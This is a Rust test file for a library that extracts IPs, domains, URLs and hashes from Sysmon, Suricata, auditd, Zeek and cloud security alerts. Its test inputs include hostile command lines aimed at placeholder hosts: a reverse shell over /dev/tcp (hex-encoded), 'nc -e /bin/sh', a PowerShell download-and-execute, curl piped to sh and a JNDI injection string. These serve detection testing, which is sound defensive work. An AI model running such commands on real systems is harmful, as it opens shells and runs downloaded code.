//! Each source of alerts gives its observables, whatever groups its rules have (docs/observables.md).

use alertbridge_alert::{
    Alert,
    observables::{Kind, ObservableFilter, Role, Via, of_tree},
};
use serde_json::{Value, json};

const MD5: &str = "9876dc6d155d58377d83ff94ec83fba4";
const SHA1: &str = "66b6c5eba4baef803c9344763711ddef70b5cccd";
const SHA256: &str = "07c83f0bf8f8a855cfd77b7e8f2014b8d808d14354b8ce540c2a9b0df11ae367";

/// `kind value field role via` of everything found, files left out unless asked for.
fn found(tree: &Value, files: bool) -> Vec<String> {
    of_tree(tree, &ObservableFilter::default())
        .list
        .into_iter()
        .filter(|o| files || !matches!(o.kind, Kind::FileName | Kind::Directory))
        .map(|o| {
            let role = match o.role {
                Role::Destination => " destination",
                Role::Either => " either",
                Role::None => "",
                Role::Source => " source",
            };
            let via = match o.via {
                Via::Field => "",
                Via::Text => " text",
                Via::UrlHost => " host",
            };
            format!("{:?} {} {}{role}{via}", o.kind, o.value, o.field)
        })
        .collect()
}

#[track_caller]
fn gives(tree: Value, expected: &[&str]) {
    assert_eq!(found(&tree, false), expected, "{tree}");
}

fn win(event: u32, eventdata: Value) -> Value {
    json!({"rule": {"groups": []}, "data": {"win": {
        "system": {"eventID": event.to_string(), "computer": "ws1.corp.example", "message": "\"203.0.113.99 http://no.example/\""},
        "eventdata": eventdata,
    }}})
}

#[test]
fn sysmon_hashes_of_windows_are_found_under_either_name() {
    let hashes = format!(
        "SHA1={},MD5={},SHA256={},IMPHASH=11111111111111111111111111111111",
        SHA1.to_uppercase(),
        MD5.to_uppercase(),
        SHA256.to_uppercase()
    );
    for (event, name) in [
        (1, "hashes"),
        (6, "hashes"),
        (7, "hashes"),
        (15, "hash"),
        (23, "hashes"),
        (24, "hashes"),
        (25, "hashes"),
        (26, "Hashes"),
    ] {
        let path = format!("data.win.eventdata.{name}");
        gives(
            win(event, json!({name: hashes})),
            &[
                &format!("Sha256 {SHA256} {path}"),
                &format!("Sha1 {SHA1} {path}"),
                &format!("Md5 {MD5} {path}"),
            ],
        );
    }
}

#[test]
fn sysmon_connections_have_a_direction_in_windows_and_linux() {
    gives(
        win(
            3,
            json!({"sourceIp": "192.168.0.4", "destinationIp": "203.0.113.7", "destinationHostname": "evil.example"}),
        ),
        &[
            "Ip 203.0.113.7 data.win.eventdata.destinationIp destination",
            "Domain evil.example data.win.eventdata.destinationHostname destination",
        ],
    );
    gives(
        json!({"data": {"system": {"eventID": "3"}, "eventdata": {"DestinationIp": "203.0.113.7", "sourceIp": "198.51.100.1", "hashes": "-"}}}),
        &[
            "Ip 203.0.113.7 data.eventdata.DestinationIp destination",
            "Ip 198.51.100.1 data.eventdata.sourceIp source",
        ],
    );
}

#[test]
fn sysmon_names_give_the_query_its_aliases_and_its_addresses() {
    gives(
        win(
            22,
            json!({"queryName": "Evil.Example.", "queryResults": "type:  5 cdn.example;::ffff:203.0.113.7;10.0.0.1;"}),
        ),
        &[
            "Ip 203.0.113.7 data.win.eventdata.queryResults either",
            "Domain evil.example data.win.eventdata.queryName either",
            "Domain cdn.example data.win.eventdata.queryResults either",
        ],
    );
}

#[test]
fn a_downloads_origin_is_read_out_of_its_zone() {
    gives(
        win(
            15,
            json!({"contents": "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://a.example/p  HostUrl=https://evil.example/x.zip?a=1&amp;b=2"}),
        ),
        &[
            "Url https://a.example/p data.win.eventdata.contents either text",
            "Url https://evil.example/x.zip?a=1&b=2 data.win.eventdata.contents either text",
            "Domain a.example data.win.eventdata.contents either host",
            "Domain evil.example data.win.eventdata.contents either host",
        ],
    );
}

#[test]
fn files_give_their_name_and_their_folder() {
    let tree = win(
        11,
        json!({"image": r"C:\\Windows\\System32\\Cmd.exe", "targetFilename": r"C:\\Users\\Public\\Evil.DLL:Zone.Identifier"}),
    );
    assert_eq!(
        found(&tree, true),
        [
            "FileName cmd.exe data.win.eventdata.image",
            "FileName evil.dll data.win.eventdata.targetFilename",
            r"Directory c:\windows\system32 data.win.eventdata.image",
            r"Directory c:\users\public data.win.eventdata.targetFilename",
        ]
    );
}

#[test]
fn syscheck_gives_what_the_file_is_now() {
    let tree = json!({"syscheck": {
        "path": "/etc/cron.d/update", "md5_before": "5d41402abc4b2a76b9719d911017c592",
        "md5_after": MD5, "sha1_after": SHA1, "sha256_after": SHA256, "inode_after": 5,
    }});
    assert_eq!(
        found(&tree, true),
        [
            format!("Sha256 {SHA256} syscheck.sha256_after"),
            format!("Sha1 {SHA1} syscheck.sha1_after"),
            format!("Md5 {MD5} syscheck.md5_after"),
            "FileName update syscheck.path".to_owned(),
            "Directory /etc/cron.d syscheck.path".to_owned(),
        ]
    );
}

#[test]
fn suricata_gives_addresses_names_handshakes_and_files() {
    gives(
        json!({"data": {"event_type": "http", "src_ip": "10.0.0.5", "dest_ip": "203.0.113.7", "dest_port": 8080,
            "http": {"hostname": "Evil.example", "http_port": 8080, "url": "/gate.php?id=1", "http_user_agent": "curl/7.1.2.3", "http_refer": "http://ref.example/"},
            "fileinfo": {"filename": "/gate.php", "sha256": SHA256},
            "files": [{"md5": MD5}]}}),
        &[
            &format!("Sha256 {SHA256} data.fileinfo.sha256"),
            &format!("Md5 {MD5} data.files.md5"),
            "Ip 203.0.113.7 data.dest_ip destination",
            "Url http://evil.example:8080/gate.php?id=1 data.http.url destination",
            "Url http://ref.example/ data.http.http_refer destination",
            "Domain evil.example data.http.hostname destination",
            "Domain ref.example data.http.http_refer destination host",
        ],
    );
    gives(
        json!({"data": {"event_type": "tls", "tls": {"sni": "c2.example", "ja3": {"hash": MD5}, "fingerprint": "aa:bb"}}}),
        &["Domain c2.example data.tls.sni destination"],
    );
    gives(
        json!({"data": {"dns": {"query": [{"rrname": "evil.example", "type": "query"}],
            "answers": [{"rrname": "evil.example", "rdata": "203.0.113.7"}, {"rdata": "cdn.example"}]}}}),
        &[
            "Ip 203.0.113.7 data.dns.answers.rdata either",
            "Domain evil.example data.dns.answers.rrname either",
            "Domain cdn.example data.dns.answers.rdata either",
        ],
    );
}

#[test]
fn web_servers_give_the_client_and_what_it_tried_to_load() {
    gives(
        json!({"data": {"protocol": "GET", "srcip": "203.0.113.7", "srcip2": "::ffff:198.51.100.9", "url": "/index.php?a=b.id"}}),
        &[
            "Ip 203.0.113.7 data.srcip source",
            "Ip 198.51.100.9 data.srcip2 source",
        ],
    );
    gives(
        json!({"data": {"srcip": "203.0.113.7", "url": "/?page=http%3A%2F%2F198.51.100.9%2Fs.txt%3F"}}),
        &[
            "Ip 203.0.113.7 data.srcip source",
            "Ip 198.51.100.9 data.url either host",
            "Url http://198.51.100.9/s.txt data.url either text",
        ],
    );
    gives(
        json!({"data": {"srcip": "203.0.113.7", "url": "/?x=${jndi:ldap://evil.example:1389/a}&y=%20http://198.51.100.9/s.sh;sh"}}),
        &[
            "Ip 203.0.113.7 data.srcip source",
            "Ip 198.51.100.9 data.url either host",
            "Url ldap://evil.example:1389/a data.url either text",
            "Url http://198.51.100.9/s.sh data.url either text",
            "Domain evil.example data.url either host",
        ],
    );
}

#[test]
fn proxies_and_firewalls_give_the_url_that_was_asked_for() {
    gives(
        json!({"data": {"action": "TCP_DENIED", "srcip": "192.168.1.1", "url": "http://WWW.evil.example"}}),
        &[
            "Url http://www.evil.example/ data.url either",
            "Domain www.evil.example data.url either host",
        ],
    );
    gives(
        json!({"data": {"action": "TCP_TUNNEL", "url": "evil.example:443"}}),
        &["Domain evil.example data.url either"],
    );
    gives(
        json!({"data": {"service": "HTTPS", "hostname": "evil.example", "url": "/a", "dstip": "203.0.113.7"}}),
        &[
            "Ip 203.0.113.7 data.dstip destination",
            "Url https://evil.example/a data.url destination",
            "Domain evil.example data.hostname either",
        ],
    );
}

#[test]
fn dns_servers_and_zeek_give_names_and_answers() {
    gives(
        json!({"data": {"bro_engine": "DNS", "id": {"orig_h": "10.0.2.15", "resp_h": "203.0.113.53"},
            "query": "evil.example", "answers": ["198.51.100.7", "cdn.example"]}}),
        &[
            "Ip 198.51.100.7 data.answers either",
            "Ip 203.0.113.53 data.id.resp_h destination",
            "Domain evil.example data.query either",
            "Domain cdn.example data.answers either",
        ],
    );
    gives(
        json!({"data": {"bro_engine": "HTTP", "id": {"resp_h": "10.0.2.3", "resp_p": 8080}, "host": "evil.example", "uri": "/a"}}),
        &[
            "Url http://evil.example:8080/a data.uri destination",
            "Domain evil.example data.host either",
        ],
    );
    gives(
        json!({"data": {"dns": {"question": {"name": "evil.example"}, "resolved_ip": ["203.0.113.7"], "answers": [{"data": "203.0.113.8"}]},
            "source": {"ip": "10.0.0.1"}, "destination": {"ip": "203.0.113.53", "domain": "ns.example"}}}),
        &[
            "Ip 203.0.113.53 data.destination.ip destination",
            "Ip 203.0.113.8 data.dns.answers.data either",
            "Ip 203.0.113.7 data.dns.resolved_ip either",
            "Domain ns.example data.destination.domain destination",
            "Domain evil.example data.dns.question.name either",
        ],
    );
}

#[test]
fn auditd_commands_are_read_also_where_they_are_hexadecimal() {
    gives(
        json!({"data": {"audit": {"execve": {"a0": "curl", "a1": "-O", "a2": "hxxp://evil[.]example/x.sh"}}}}),
        &[
            "Url http://evil.example/x.sh data.audit.execve.a2 either text",
            "Domain evil.example data.audit.execve.a2 either host",
        ],
    );
    // sh -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; scp r@evil.example.com:x ."
    let hex = "62617368202d69203e26202f6465762f7463702f3230332e302e3131332e372f3434343420303e26313b2073637020724031\
               39382e35312e3130302e393a78206576696c2e6578616d706c652e636f6d";
    gives(
        json!({"data": {"audit": {"execve": {"a0": "sh", "a1": "-c", "a2": hex.to_uppercase()}}}}),
        &[
            "Ip 203.0.113.7 data.audit.execve.a2 either text",
            "Ip 198.51.100.9 data.audit.execve.a2 either text",
            "Domain evil.example.com data.audit.execve.a2 either text",
        ],
    );
}

#[test]
fn command_lines_give_urls_addresses_names_and_hashes_but_no_files() {
    for (command, expected) in [
        (
            "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
            vec!["Url http://evil.example/a.ps1", "Domain evil.example"],
        ),
        (
            "wget -q evil.example.com/x; chmod +x install.sh",
            vec!["Domain evil.example.com"],
        ),
        ("nc -e /bin/sh 203.0.113.7 4444", vec!["Ip 203.0.113.7"]),
        ("ssh root@[2001:db8::7]:22", vec!["Ip 2001:db8::7"]),
        (
            r"C:\Tools\evil.com /x python3.6 lib.py v1.2.3.4 [System.IO.File]::x 1.3.6.1.4.1",
            vec![],
        ),
        (
            "miner --user bob@evil.example",
            vec!["Email bob@evil.example"],
        ),
        (
            "certutil -hashfile 9876DC6D155D58377D83FF94EC83FBA4",
            vec!["Md5 9876dc6d155d58377d83ff94ec83fba4"],
        ),
        (
            r#"{"u":"https:\/\/evil.example\/a"}"#,
            vec!["Url https://evil.example/a", "Domain evil.example"],
        ),
        (
            "curl http://evil.example/a&&sh",
            vec!["Url http://evil.example/a", "Domain evil.example"],
        ),
    ] {
        let tree = json!({"data": {"win": {"eventdata": {"commandLine": command}}}});
        let list = of_tree(&tree, &ObservableFilter::default()).list;
        let values: Vec<String> = list
            .iter()
            .map(|o| format!("{:?} {}", o.kind, o.value))
            .collect();
        assert_eq!(values, expected, "{command}");
    }
}

#[test]
fn osquery_columns_are_read_by_name_and_form() {
    gives(
        json!({"data": {"osquery": {"name": "process_open_sockets", "hostIdentifier": "web1.corp.example",
            "columns": {"remote_address": "203.0.113.7", "sha256": SHA256, "path": "/tmp/x", "cmdline": "curl evil.example.com"}}}}),
        &[
            &format!("Sha256 {SHA256} data.osquery.columns.sha256"),
            "Ip 203.0.113.7 data.osquery.columns.remote_address either",
            "Domain evil.example.com data.osquery.columns.cmdline either text",
        ],
    );
}

#[test]
fn virustotal_gives_the_file_and_not_its_page() {
    gives(
        json!({"data": {"integration": "virustotal", "virustotal": {"source": {"md5": MD5, "sha1": SHA1, "file": "/x"}, "sha1": SHA1,
            "permalink": format!("https://www.virustotal.com/gui/file/{SHA256}/detection")}}}),
        &[
            &format!("Sha1 {SHA1} data.virustotal.sha1"),
            &format!("Md5 {MD5} data.virustotal.source.md5"),
        ],
    );
}

#[test]
fn clouds_give_their_clients_in_every_spelling() {
    for (tree, expected) in [
        (
            json!({"aws": {"sourceIPAddress": "203.0.113.7", "source": "cloudtrail"}}),
            "Ip 203.0.113.7 data.aws.sourceIPAddress source",
        ),
        (
            json!({"aws": {"source_ip_address": "203.0.113.7"}}),
            "Ip 203.0.113.7 data.aws.source_ip_address source",
        ),
        (json!({"aws": {"sourceIPAddress": "ec2.amazonaws.com"}}), ""),
        (
            json!({"aws": {"service": {"action": {"awsApiCallAction": {"remoteIpDetails": {"ipAddressV4": "203.0.113.7"}}}},
                "resource": {"instanceDetails": {"networkInterfaces": [{"publicIp": "198.51.100.1"}]}}}}),
            "Ip 203.0.113.7 data.aws.service.action.awsApiCallAction.remoteIpDetails.ipAddressV4 either",
        ),
        (
            json!({"aws": {"service": {"action": {"dnsRequestAction": {"domain": "evil.example"}}}}}),
            "Domain evil.example data.aws.service.action.dnsRequestAction.domain either",
        ),
        (
            json!({"office365": {"ClientIP": "203.0.113.7:52331"}}),
            "Ip 203.0.113.7 data.office365.ClientIP source",
        ),
        (
            json!({"office365": {"ClientIP": "[2001:db8::7]:443"}}),
            "Ip 2001:db8::7 data.office365.ClientIP source",
        ),
        (
            json!({"office365": {"ActorIpAddress": "[::ffff:203.0.113.7]:1"}}),
            "Ip 203.0.113.7 data.office365.ActorIpAddress source",
        ),
        (
            json!({"gcp": {"protoPayload": {"requestMetadata": {"callerIp": "203.0.113.7"}}}}),
            "Ip 203.0.113.7 data.gcp.protoPayload.requestMetadata.callerIp source",
        ),
        (
            json!({"github": {"actor_ip": "203.0.113.7"}}),
            "Ip 203.0.113.7 data.github.actor_ip source",
        ),
        (
            json!({"ClientIP": "203.0.113.7", "ClientRequestHost": "www.corp.example"}),
            "Ip 203.0.113.7 data.ClientIP source",
        ),
    ] {
        let expected: Vec<&str> = Some(expected)
            .filter(|text| !text.is_empty())
            .into_iter()
            .collect();
        gives(json!({"data": tree}), &expected);
    }
}

#[test]
fn what_others_wrote_about_something_else_is_left_alone() {
    gives(
        json!({
            "agent": {"ip": "203.0.113.1"},
            "data": {
                "opencti": {"indicator": {"pattern": "x"}, "value": "203.0.113.2", "source": {"dst_ip": "203.0.113.3"}},
                "vulnerability": {"reference": "https://a.example/cve", "scanner": {"reference": "https://b.example/"}},
                "sca": {"check": {"command": ["curl https://c.example/"]}},
                "ms-graph": {"alertWebUrl": "https://d.example/"},
                "version": "1.2.3.4", "user_agent": "http://bot.example/", "hash": "zz", "md5": "0".repeat(32),
                "n": 5, "z": null, "b": true, "l": [[], {}],
            },
            "syscheck": {"sha256_after": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
        }),
        &[],
    );
}

#[test]
fn what_stands_at_both_ends_may_be_either() {
    gives(
        json!({"data": {"srcip": "203.0.113.7", "dstip": "203.0.113.7"}}),
        &["Ip 203.0.113.7 data.dstip either"],
    );
}

#[test]
fn values_may_be_lists_of_lists_and_any_type() {
    gives(
        json!({"data": {"srcip": [["203.0.113.7", 5, null], {"x": "203.0.113.8"}], "dstip": {"y": "203.0.113.9"},
            "forwarded": "198.51.100.1, 198.51.100.2", "hashes": [format!("SHA256={SHA256}")]}}),
        &[
            &format!("Sha256 {SHA256} data.hashes"),
            "Ip 198.51.100.1 data.forwarded either",
            "Ip 198.51.100.2 data.forwarded either",
            "Ip 203.0.113.9 data.dstip.y either",
            "Ip 203.0.113.7 data.srcip source",
            "Ip 203.0.113.8 data.srcip.x either",
        ],
    );
}

#[test]
fn findings_of_wazuh_5_hold_ecs_at_the_top() {
    gives(
        json!({"source": {"ip": "203.0.113.7"}, "url": {"full": "http://evil.example/a"}, "file": {"hash": {"sha256": SHA256}}}),
        &[
            &format!("Sha256 {SHA256} file.hash.sha256"),
            "Ip 203.0.113.7 source.ip source",
            "Url http://evil.example/a url.full destination",
            "Domain evil.example url.full destination host",
        ],
    );
}

#[test]
fn real_alerts_give_what_is_in_them() {
    let mut all = Vec::new();
    for line in include_str!("../../../data/alerts.jsonl").lines() {
        let alert = Alert::parse(line.as_bytes()).unwrap();
        let observables = alert.intel_observables(&ObservableFilter::default());
        assert_eq!(observables.dropped.over_limit, 0);
        for o in &observables.list {
            assert_eq!(o.kind.normal(&o.value).as_ref(), Some(&o.value));
        }
        // Addresses and hashes of the IOCs are all here, but for those the filter leaves out.
        for ioc in alert.observables() {
            let kind = match ioc.kind {
                alertbridge_alert::ObservableKind::Ip => Kind::Ip,
                alertbridge_alert::ObservableKind::Md5 => Kind::Md5,
                alertbridge_alert::ObservableKind::Sha256 => Kind::Sha256,
                _ => continue,
            };
            let is_here = observables
                .list
                .iter()
                .any(|o| (o.kind, &o.value) == (kind, &ioc.value));
            let is_out = !ObservableFilter::default().keeps_value(kind, &ioc.value);
            assert!(
                is_here || is_out || ioc.field.ends_with("permalink"),
                "{ioc:?}"
            );
        }
        all.extend(observables.list.into_iter().map(|o| (o.kind, o.value)));
    }
    for (kind, value) in [
        (Kind::Ip, "44.204.18.94"),
        (Kind::Url, "http://44.204.18.94/injector.sh"),
        (Kind::Url, "http://44.204.18.94/config.json"),
        (Kind::Domain, "img-s-msn-com.akamaized.net"),
        (Kind::Ip, "213.194.153.13"),
        (Kind::Sha256, SHA256),
        (Kind::Md5, "44d88612fea8a8f36de82e1278abb02f"),
        (Kind::FileName, "xmrig"),
    ] {
        assert!(all.contains(&(kind, value.to_owned())), "{value}");
    }
}
